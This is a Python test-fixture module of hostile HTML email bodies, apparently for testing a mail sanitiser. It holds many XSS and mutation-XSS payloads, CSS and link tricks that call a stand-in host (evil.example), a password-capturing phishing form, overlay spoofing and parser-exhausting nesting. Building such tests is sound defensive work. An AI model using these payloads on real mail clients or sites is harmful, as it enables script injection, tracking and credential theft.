"""Bodies of hostile mails, by name. In each, `HIT` is a script that tells that it ran, and `EVIL` an address that tells
of each request; `sent` fills both in with the name of the mail."""

import re
from typing import Final

_NESTED: Final = 20_000

HOSTILE: Final[dict[str, str]] = {
    # Scripts
    "script": "<script>HIT</script>",
    "script-loaded": '<script src="EVIL/x.js"></script>',
    "script-case": "<ScRiPt>HIT</sCrIpT >",
    "script-within": "<scr<script>ipt>HIT</scr</script>ipt>",
    "script-open": "<script>HIT<b",
    "script-slash": "<script/x>HIT</script>",
    "script-module": '<script type="module">import "EVIL/m.js"; HIT</script>',
    "script-null": "<scr\x00ipt>HIT</scr\x00ipt><script\x00>HIT</script>",
    "script-after-end": "<html><body>x</body></html><script>HIT</script>",
    "script-in-attribute": '<div title="</div><script>HIT</script>">x</div>',
    # Handlers
    "onerror": '<img src="EVIL/x" onerror="HIT">',
    "onerror-empty": "<img src onerror=HIT>",
    "onerror-slashes": "<img/src=x/onerror=HIT>",
    "onerror-quotes": '<img """><script>HIT</script>"><img src="`x`" onerror=HIT>',
    "onload": '<body onload="HIT">x</body><body onpageshow="HIT">',
    "onfocus": "<input autofocus onfocus=HIT><a href=#x id=x tabindex=1 autofocus onfocus=HIT>x</a>",
    "ontoggle": "<details open ontoggle=HIT><summary>x</summary>y</details>",
    "onstart": "<marquee onstart=HIT>x</marquee>",
    "onanimation": "<style>@keyframes k{}</style><p style='animation-name:k' onanimationstart=HIT>x</p>",
    "onscroll": "<div onscroll=HIT style='overflow:scroll;height:1px'>x<br>y<a autofocus href=# id=z>z</a></div>",
    "ontransition": "<p style='transition:color 1s' ontransitionrun=HIT tabindex=1 autofocus>x</p>",
    "onbegin": "<svg><animate onbegin=HIT attributeName=x dur=1s></svg>",
    "popover": "<button popovertarget=p>x</button><div popover id=p onbeforetoggle=HIT>y</div>",
    # Foreign elements, and what browsers make of their ends
    "svg-script": "<svg><script>HIT</script></svg>",
    "svg-script-entity": "<svg><script>&#99;onsole.log(&#96;HIT:svg-script-entity&#96;)</script></svg>",
    "svg-onload": "<svg onload=HIT><g onload=HIT></g></svg>",
    "svg-use": '<svg><use href="EVIL/x.svg#x" xlink:href="EVIL/y.svg#y"></use></svg>',
    "svg-image": '<svg><image href="EVIL/x.png" xlink:href="EVIL/y.png"/></svg>',
    "svg-link": '<svg><a xlink:href="javascript:HIT"><text y=20>x</text></a></svg>',
    "svg-animate": "<svg><a><animate attributeName=href values=javascript:HIT /><text y=20>x</text></a></svg>",
    "svg-foreign": "<svg><foreignObject><img src=x onerror=HIT><iframe src=EVIL></iframe></foreignObject></svg>",
    "svg-cdata": "<svg><![CDATA[><img src=x onerror=HIT>]]></svg><![CDATA[<img src=x onerror=HIT>]]>",
    "svg-style": "<svg></p><style><a id='</style><img src=x onerror=HIT>'>",
    "svg-title": "<svg><title><img src=x onerror=HIT></title><desc><script>HIT</script></desc></svg>",
    "math-link": '<math href="javascript:HIT">x</math><math><maction actiontype="statusline" xlink:href="EVIL">y',
    "math-style": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=HIT&gt;'>",
    "math-form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=HIT>",
    "math-annotation": "<math><annotation-xml encoding='text/html'><style><img src=x onerror=HIT></style></math>",
    "math-malignmark": "<math><mi><table><tr><td><malignmark><style><img title='</style><img src=x onerror=HIT>'>",
    # Text that another parser takes for elements
    "noscript": '<noscript><p title="</noscript><img src=x onerror=HIT>"></noscript>',
    "noembed": '<noembed><p title="</noembed><img src=x onerror=HIT>"></noembed>',
    "noframes": '<noframes><p title="</noframes><img src=x onerror=HIT>"></noframes>',
    "iframe-text": '<iframe><p title="</iframe><img src=x onerror=HIT>"></iframe>',
    "template": "<template><img src=x onerror=HIT><script>HIT</script></template>",
    "template-shadow": "<div><template shadowrootmode=open><img src=EVIL/x onerror=HIT></template></div>",
    "style-text": "<style><!--</style><img src=x onerror=HIT>--></style>",
    "style-attribute-end": "<p style='x:</p><img src=x onerror=HIT>'>y</p>",
    "title-text": "<title><p title='</title><img src=x onerror=HIT>'></title>",
    "textarea-text": "<textarea><p title='</textarea><img src=x onerror=HIT>'></textarea>",
    "xmp": "<xmp><p title='</xmp><img src=x onerror=HIT>'></xmp>",
    "plaintext": "<plaintext><img src=x onerror=HIT>",
    "listing": "<listing>&lt;img src=x onerror=HIT&gt;</listing>",
    "comment": "<!--><img src=x onerror=HIT>--><!-- --!><img src=x onerror=HIT>--><!-><img src=x onerror=HIT>",
    "comment-condition": (
        "<!--[if gte IE 4]><script>HIT</script><![endif]--><![if !x]><img src=x onerror=HIT><![endif]>"
    ),
    "processing-instruction": "<?xml-stylesheet href='EVIL/x.xsl'?><?php '?><img src=x onerror=HIT>'?>",
    "doctype": "<!DOCTYPE x [<!ENTITY y SYSTEM 'EVIL/x'>]><p>&y;<img src=x onerror=HIT></p>",
    "select": "<select><option><img src=x onerror=HIT></option></select><select><iframe src=EVIL></select>",
    "table": "<table><img src=x onerror=HIT><tr><script>HIT</script><td background=EVIL/x>y</table>",
    "backquotes": "<img alt=`x` title=`onerror=HIT `src=x>",
    # Styles
    "style-import": "<style>@import url(EVIL/x.css); @import 'EVIL/y.css';</style>",
    "style-background": "<p style=\"background:url(EVIL/x);background-image:url('EVIL/y')\">x</p>",
    "style-escaped": r'<p style="background:\75rl(EVIL/x);background-image:u\72 l(EVIL/y)">x</p>',
    "style-comment": '<p style="background:ur/**/l(EVIL/x);background:url/**/(EVIL/y)">x</p>',
    "style-image-set": (
        "<p style=\"background:image-set('EVIL/x' 1x);background-image:-webkit-image-set(url(EVIL/y) 1x)\">x"
    ),
    "style-list": "<ul style='list-style:url(EVIL/x);list-style-image:url(EVIL/y)'><li>x</ul>",
    "style-content": "<q style='content:url(EVIL/x);cursor:url(EVIL/y),auto;border-image:url(EVIL/z)'>x</q>",
    "style-font": "<style>@font-face{font-family:f;src:url(EVIL/f.woff)}p{font-family:f}</style><p>x</p>",
    "style-variable": "<p style='--u:url(EVIL/x);background:var(--u)'>x</p>",
    "style-attr": "<p title='EVIL/x' style='background:src(attr(title));background:url(attr(title))'>x</p>",
    "style-mask": (
        "<p style='mask:url(EVIL/x);clip-path:url(EVIL/y#z);filter:url(EVIL/w#v);shape-outside:url(EVIL/u)'>x"
    ),
    "style-expression": (
        "<p style='width:expression(HIT);behavior:url(EVIL/x.htc);-moz-binding:url(EVIL/x.xml#x)'>x</p>"
    ),
    "style-selector": (
        "<style>a[href^='h']{background:url(EVIL/x)}:has(*){background:url(EVIL/y)}</style><a href=EVIL>x</a>"
    ),
    "style-overlay": "<div style='position:fixed;inset:0;z-index:9999;background:white'>Your session has ended</div>",
    "style-overlay-escaped": (
        r"<div style='p\6fsition:fixed;inset:0"
        r";pos/**/ition:absolute;position:sticky !important'>x</div>"
    ),
    "style-margin": (
        "<p style='margin:-9999px 0 0 -50px;transform:scale(99);float:left;margin-top:calc(0px - 99px)'>x</p>"
    ),
    "style-broken": (
        "<p style=\"color:red;}*{background:url(EVIL/x)\">x</p><p style='font-family:&quot;;position:fixed;&quot;'>y"
    ),
    # Links and frames
    "link-javascript": "<a href='javascript:HIT'>x</a><a href='JaVaScRiPt:HIT'>x</a>",
    "link-entities": "<a href='&#106;ava&Tab;script&colon;HIT'>x</a><a href='java&#10;script:HIT'>x</a>",
    "link-space": (
        "<a href=' \x01\x1fjavascript:HIT'>x</a><a href='javascript\n:HIT'>x</a><a href='\tjava\0script:HIT'>x</a>"
    ),
    "link-data": (
        "<a href='data:text/html,<script>HIT</script>'>x</a><a href='DATA:text/html;base64,PHNjcmlwdD4='>x</a>"
    ),
    "link-others": (
        "<a href='vbscript:HIT'>x</a><a href='blob:EVIL'>x</a><a href='file:///etc/passwd'>x</a><a href='//x'>"
    ),
    "link-ping": "<a href='http://x.example/' ping='EVIL/ping' target=_top download>x</a>",
    "link-top": "<a href='http://x.example/' target='_parent' rel='opener'>x</a><base target=_top>",
    "base": "<base href='EVIL/'><img src=x><a href=y>z</a>",
    "refresh": "<meta http-equiv=refresh content='0;url=EVIL/refresh'>",
    "refresh-script": "<meta http-equiv=refresh content='0;url=javascript:HIT'>",
    "refresh-data": "<meta http-equiv=refresh content='0;url=data:text/html,<script>HIT</script>'>",
    "meta-policy": "<meta http-equiv='Content-Security-Policy' content='img-src *'><img src=EVIL/x>",
    "meta-cookie": "<meta http-equiv='Set-Cookie' content='session=x'><meta name=referrer content=unsafe-url>",
    "meta-utf7": "<meta charset=utf-7>+ADw-script+AD4-HIT+ADw-/script+AD4-",
    "meta-iso2022": "<meta charset=iso-2022-jp><img alt='\x1b$B' src=x><p title='\x1b(B onerror=HIT'>x</p>",
    "iframe": "<iframe src='EVIL/x'></iframe><iframe srcdoc='<script>HIT</script>'></iframe>",
    "iframe-javascript": "<iframe src='javascript:HIT'></iframe><frameset><frame src='javascript:HIT'></frameset>",
    "object": "<object data='EVIL/x'></object><embed src='EVIL/y'><applet code='EVIL/z'></applet>",
    "object-data": "<object data='data:text/html,<script>HIT</script>'></object><embed src='javascript:HIT'>",
    "fencedframe": "<portal src='EVIL/x'></portal><fencedframe src='EVIL/y'></fencedframe>",
    # Forms
    "form": "<form action='EVIL/f' method=post><input name=password type=password><button>Sign in</button></form>",
    "form-action": "<form><input type=image src='EVIL/x' formaction='javascript:HIT'><isindex action=EVIL></form>",
    "form-clobber": (
        "<form id=x></form><img name=body src=EVIL/a><input form=x name=attributes><a id=location href=EVIL>x</a>"
    ),
    # Pictures, sound and what browsers fetch early
    "picture": "<img src='EVIL/x.png'><image src='EVIL/y.png'><img src='//evil.example/z'>",
    "picture-set": "<img srcset='EVIL/x 1x, EVIL/y 2x'><picture><source srcset='EVIL/z'><img alt=x></picture>",
    "picture-lazy": "<img loading=lazy src=EVIL/x lowsrc=EVIL/y dynsrc=EVIL/z longdesc=EVIL/w>",
    "picture-svg": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='HIT'/>\">",
    "picture-disguised": "<img src='data:image/png;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+' onerror=HIT>",
    "background": "<body background='EVIL/x'><table background='EVIL/y'><tr><td background='EVIL/z'>x</table>",
    "video": "<video poster='EVIL/x' src='EVIL/y' autoplay><source src='EVIL/z' onerror=HIT><track src=EVIL></video>",
    "audio": "<audio src='EVIL/x' autoplay onerror=HIT></audio><bgsound src='EVIL/y'>",
    "stylesheet": "<link rel=stylesheet href='EVIL/x.css'><link rel='alternate stylesheet' href='EVIL/y.css'>",
    "preload": "<link rel=preload as=image href='EVIL/x'><link rel=modulepreload href='EVIL/y.js'>",
    "prefetch": "<link rel=prefetch href='EVIL/x'><link rel=prerender href='EVIL/y'><link rel=icon href='EVIL/z'>",
    "preconnect": "<link rel=dns-prefetch href='EVIL'><link rel=preconnect href='EVIL'>",
    "link-import": (
        "<link rel=import href='EVIL/x'><link rel=manifest href='EVIL/y'><link rel=serviceworker href='EVIL'>"
    ),
    "speculation": '<script type=speculationrules>{"prefetch":[{"urls":["EVIL/x"]}]}</script>',
    # Broken text and much of it
    "null": "<im\x00g src=x on\x00error=HIT><a href='java\x00script:HIT'>x</a>\x00",
    "surrogates": "<p>\ud800<img src=x onerror=HIT>\udfff",
    "overlong": "\xc0\xbcscript\xc0\xbeHIT\xc0\xbc/script\xc0\xbe\ufffe<img src=x onerror=HIT>",
    "entities": "&lt;script&gt;HIT&lt;/script&gt;&#x3c;img src=x onerror=HIT&#x3e;",
    "entities-twice": "&amp;lt;script&amp;gt;HIT&amp;lt;/script&amp;gt;",
    "bidi": "<a href='http://x.example/\u202egpj.exe'>\u202ehttp://bank.example</a><p>\u2066\u202e<script>HIT</script>",
    "attribute-long": f"<img {'a' * 200_000}=1 src=EVIL/x onerror=HIT>",
    "attributes": f"<img {' '.join(f'a{n}=1' for n in range(30_000))} src=EVIL/x onerror=HIT>",
    "nested": "<div>" * _NESTED + "<img src=EVIL/x onerror=HIT>",
    "nested-lists": "<ul><li>" * _NESTED + "<img src=EVIL/x onerror=HIT>",
    "nested-fonts": "<font color=red>" * 300 + "<p><img src=EVIL/x onerror=HIT>",
    "nested-svg": "<svg><foreignObject>" * 500 + "<img src=EVIL/x onerror=HIT>",
    "nested-comments": "<!--" * _NESTED + "--><img src=EVIL/x onerror=HIT>",
    "unclosed": "<a href='http://x.example/'><table><b><i>" * 200 + "<img src=EVIL/x onerror=HIT",
}


def sent(name: str) -> str:
    """The body of that mail."""
    script = f"console.log(`HIT:{name}`)"
    body = HOSTILE[name].replace("EVIL", f"http://evil.example/{name}")
    return re.sub("HIT(?!:)", script, body)
